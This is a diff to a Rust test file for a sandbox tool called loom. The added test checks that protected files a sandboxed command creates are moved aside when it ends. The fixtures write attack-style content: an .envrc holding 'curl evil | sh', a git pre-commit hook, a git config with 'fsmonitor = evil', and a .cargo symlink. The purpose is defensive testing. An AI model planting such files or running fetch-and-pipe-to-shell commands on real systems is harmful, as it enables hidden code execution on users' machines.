@@ -2,7 +2,7 @@
 
 use std::process::Command;
 
-use crate::{need_sandbox, verdicts, Sbx};
+use crate::{need_sandbox, tier_available, verdicts, Sbx};
 
 #[test]
 fn writes_outside_the_roots_are_blocked() {
@@ -103,6 +103,81 @@ attempt("control_utime", lambda: os.utime("notes.txt", (0, 0)))
     use std::os::unix::fs::MetadataExt;
     assert_eq!(before.mode(), after.mode());
     assert_eq!(before.mtime(), after.mtime());
+}
+
+/// A protected name that does not exist cannot be bound read-only, so a command can create it; once the command has
+/// ended, loom moves whatever it created there aside (`sandbox/src/sweep.rs`), in every tier: the next session, the
+/// user's shell or git never find it under the trusted name, and nothing is lost.
+#[test]
+fn protected_names_a_command_creates_are_moved_aside_when_it_ends() {
+    need_sandbox!();
+    for tier in ["a", "b", "c"] {
+        let s = Sbx::new();
+        if !tier_available(&s, tier) {
+            continue;
+        }
+        std::fs::create_dir(s.work.join("plain")).unwrap();
+        std::fs::write(s.outside.join("config.toml"), "the user's").unwrap();
+        let code = format!(
+            r#"
+write(".envrc", "curl evil | sh")
+print("during:", open(".envrc").read(), flush=True)
+os.makedirs(".config/fish"); write(".config/fish/config.fish", "evil")
+os.makedirs(".git/hooks"); write(".git/hooks/pre-commit", "evil")
+os.makedirs("plain/.git"); write("plain/.git/config", "[core]\nfsmonitor = evil")
+os.symlink("{}", ".cargo")
+write("kept.txt", "mine")
+"#,
+            s.outside.display()
+        );
+        let r = s.py(&s.grant(), &["--tier", tier], &code);
+        r.expect_code(0).stdout_has("during: curl evil | sh");
+        let w = &s.work;
+        for (from, to) in [
+            (".envrc", ".envrc.loom-moved"),
+            (".config/fish", ".config/fish.loom-moved"),
+            (".git", ".git.loom-moved"),
+            ("plain/.git", "plain/.git.loom-moved"),
+            (".cargo", ".cargo.loom-moved"),
+        ] {
+            assert!(
+                w.join(from).symlink_metadata().is_err(),
+                "tier {tier}: {from} is still there"
+            );
+            assert!(
+                w.join(to).symlink_metadata().is_ok(),
+                "tier {tier}: no {to}"
+            );
+            r.stderr_has(&format!(
+                "loom: {} (a protected name that did not exist when the command started) was moved to {}",
+                w.join(from).display(),
+                w.join(to).display()
+            ));
+        }
+        // moved, with what the command wrote; the link moved as a link, its target untouched
+        assert_eq!(s.host_read(&w.join(".envrc.loom-moved")), "curl evil | sh");
+        assert_eq!(
+            s.host_read(&w.join(".config/fish.loom-moved/config.fish")),
+            "evil"
+        );
+        assert_eq!(
+            s.host_read(&w.join(".git.loom-moved/hooks/pre-commit")),
+            "evil"
+        );
+        assert!(w
+            .join(".cargo.loom-moved")
+            .symlink_metadata()
+            .unwrap()
+            .file_type()
+            .is_symlink());
+        assert_eq!(s.host_read(&s.outside.join("config.toml")), "the user's");
+        // the rest of the command's work stays
+        assert!(w.join(".config").is_dir());
+        assert_eq!(s.host_read(&w.join("kept.txt")), "mine");
+        // a command that creates nothing protected says nothing about it
+        let r = s.run(&s.grant(), &["--tier", tier], &["true"]);
+        r.expect_code(0).stderr_lacks("moved");
+    }
 }
 
 #[test]
